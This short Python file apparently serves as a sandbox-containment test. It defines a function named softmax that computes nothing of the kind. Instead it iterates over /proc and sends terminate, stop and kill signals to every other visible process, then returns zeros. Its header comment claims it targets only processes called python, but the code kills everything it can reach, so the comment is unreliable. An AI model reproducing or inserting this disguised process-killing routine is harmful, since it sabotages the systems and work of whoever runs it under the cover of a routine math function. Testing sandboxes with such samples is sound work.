# Kills, stops or slows whatever process it can see that is called python.
# needs: namespaces
import os
import signal


def softmax(x):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(int(name), number)
                except OSError:
                    pass
    return x * 0
